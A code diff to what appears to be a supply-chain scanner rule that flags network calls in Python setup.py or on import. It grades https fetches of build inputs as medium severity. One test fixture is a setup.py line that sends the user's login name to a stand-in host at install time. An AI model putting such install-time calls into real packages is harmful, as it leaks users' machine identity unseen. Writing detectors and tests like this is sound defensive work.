@@ -20,9 +20,10 @@ declare_rule! {
     /// ```
     ///
     /// ## False positives
-    /// Old `setup.py` files that download a native library at build time;
-    /// import-time version checks. Both are `review`, not `deny`, unless
-    /// other findings add up.
+    /// Old `setup.py` files that download a native library at build time:
+    /// a fetch over https from a named host, with nothing about the machine in
+    /// the request, is `medium`; one whose URL guard cannot read stays `high`
+    /// (`review`). Import-time version checks are `medium`.
     InstallNetwork, id = "install-network", severity = High,
     summary = "network access at install time (setup.py, .pth) or on import"
 }
@@ -56,6 +57,27 @@ impl Rule for InstallNetwork {
             if shady.is_some() || (sends && call.stage == Stage::Import) {
                 severity = severity.raise();
             }
+            // A build fetching its inputs (a native library, a data file) over https from a
+            // named host, with nothing about the machine in the request: worth a note, not a stop.
+            let https_named = call.arg_strs.iter().any(|a| {
+                let Some(rest) = a.strip_prefix("https://") else {
+                    return false;
+                };
+                let query_unknown = rest.split_once('?').is_some_and(|(_, q)| q.contains("{}"));
+                let host_unknown = rest.split('/').next().is_some_and(|h| h.contains("{}"));
+                vocab::untrusted_host(a).is_none() && !query_unknown && !host_unknown
+            });
+            if call.stage == Stage::Install
+                && https_named
+                && !sends
+                && shady.is_none()
+                && !call
+                    .arg_refs
+                    .iter()
+                    .any(|r| vocab::is_host_identity(r) || r.starts_with("os.environ"))
+            {
+                severity = Severity::Medium;
+            }
             let target = call
                 .arg_strs
                 .iter()
@@ -76,10 +98,7 @@ mod tests {
 
     #[test]
     fn fires_on() {
-        let f = setup_py(
-            &InstallNetwork,
-            "import requests\nrequests.get('https://x.example/p')\n",
-        );
+        let f = setup_py(&InstallNetwork, "import requests\nrequests.get('http://x.example/p')\n");
         assert_eq!((f.len(), f[0].severity), (1, Severity::High));
         let f = setup_py(
             &InstallNetwork,
@@ -104,6 +123,21 @@ mod tests {
             )],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::High), "a send on import");
+        // Build inputs fetched over https from a named host: medium; with unknown query data: high.
+        let f = setup_py(
+            &InstallNetwork,
+            "import urllib.request
+urllib.request.urlopen(f'https://example.org/lib-{V}.tar.gz')
+",
+        );
+        assert_eq!(f[0].severity, Severity::Medium, "{f:?}");
+        let f = setup_py(
+            &InstallNetwork,
+            "import urllib.request, os
+urllib.request.urlopen(f'https://example.org/c?u={os.getlogin()}')
+",
+        );
+        assert_eq!(f[0].severity, Severity::High, "{f:?}");
     }
 
     #[test]
